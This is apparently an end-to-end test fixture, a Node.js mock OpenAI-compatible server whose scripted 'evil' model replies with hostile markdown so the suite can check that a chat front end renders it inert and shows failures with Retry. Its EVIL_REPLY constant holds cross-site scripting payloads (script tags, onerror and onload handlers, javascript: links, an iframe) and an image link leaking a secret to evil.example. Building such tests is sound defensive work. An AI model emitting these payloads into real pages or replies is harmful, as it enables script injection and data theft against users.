// A scripted OpenAI-compatible server whose "model" answers with hostile markdown, or, when
// the last user message contains "[outage]", fails with HTTP 503; "[code]" gets a reply with a
// long code line, a footnote and a quote (layout and accessibility checks); "[slow]" streams a
// long reply slowly (stop it or leave it mid-way). The e2e suite points a
// second backend at it to prove such replies render inert and failures show up with Retry.
// Usage: node e2e/evil-llm.mjs [port]   (default 8767)
import { createServer } from 'node:http';

export const EVIL_REPLY = [
  'Here is **bold** text and a [safe link](https://example.com/docs).',
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'img\'">',
  "[click me](javascript:window.__pwned='link')",
  '<a href="javascript:window.__pwned=\'a\'">html link</a>',
  '![tracker](https://evil.example/leak.png?c=secret)',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<svg onload="window.__pwned = \'svg\'"></svg>',
  '```html\n<script>window.__pwned = "code"</script>\n```',
  'The end.',
].join('\n\n');

export const CODE_REPLY = [
  'Here is a function with a long line[^1]:',
  '```python\ndef greet(name):\n    return f"Hello, {name}! Welcome to the chat app that never overflows on a phone."\n```',
  '> A quote has a bar, like in the chat apps people know.',
  '[^1]: The line is over 55 characters.',
].join('\n\n');

const MODEL = 'evil-model';
const port = Number(process.argv[2] ?? process.env.EVIL_LLM_PORT ?? 8767);

function chunk(delta, finish = null) {
  return {
    id: 'chatcmpl-evil',
    object: 'chat.completion.chunk',
    created: Math.floor(Date.now() / 1000),
    model: MODEL,
    choices: [{ index: 0, delta, finish_reason: finish }],
  };
}

const server = createServer(async (req, res) => {
  let raw = '';
  for await (const part of req) raw += part;

  if (req.method === 'GET' && req.url === '/v1/models') {
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.end(
      JSON.stringify({ object: 'list', data: [{ id: MODEL, object: 'model', owned_by: 'e2e' }] }),
    );
    return;
  }
  if (req.method !== 'POST' || req.url !== '/v1/chat/completions') {
    res.writeHead(404, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify({ error: { message: `no route ${req.method} ${req.url}` } }));
    return;
  }

  const body = JSON.parse(raw || '{}');
  const last = body.messages?.at(-1)?.content ?? '';
  if (String(last).includes('[outage]')) {
    res.writeHead(503, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify({ error: { message: 'scripted outage', type: 'server_error' } }));
    return;
  }
  if (!body.stream) {
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.end(
      JSON.stringify({
        id: 'chatcmpl-evil',
        object: 'chat.completion',
        created: Math.floor(Date.now() / 1000),
        model: MODEL,
        choices: [
          { index: 0, message: { role: 'assistant', content: EVIL_REPLY }, finish_reason: 'stop' },
        ],
      }),
    );
    return;
  }

  res.writeHead(200, { 'Content-Type': 'text/event-stream', 'Cache-Control': 'no-cache' });
  const send = (data) => res.write(`data: ${JSON.stringify(data)}\n\n`);
  send(chunk({ role: 'assistant', content: '' }));
  const slow = String(last).includes('[slow]');
  const reply = String(last).includes('[code]')
    ? CODE_REPLY
    : slow
      ? Array.from({ length: 400 }, (_, i) => `word${i} `).join('')
      : EVIL_REPLY;
  // Small pieces split tags mid-way ("<scr", "ipt>"), as a real token stream would.
  for (let i = 0; i < reply.length && !res.destroyed; i += 7) {
    send(chunk({ content: reply.slice(i, i + 7) }));
    await new Promise((resolve) => setTimeout(resolve, slow ? 50 : 5));
  }
  send(chunk({}, 'stop'));
  res.end('data: [DONE]\n\n');
});

server.listen(port, '127.0.0.1', () => console.log(`evil LLM on http://127.0.0.1:${port}/v1`));
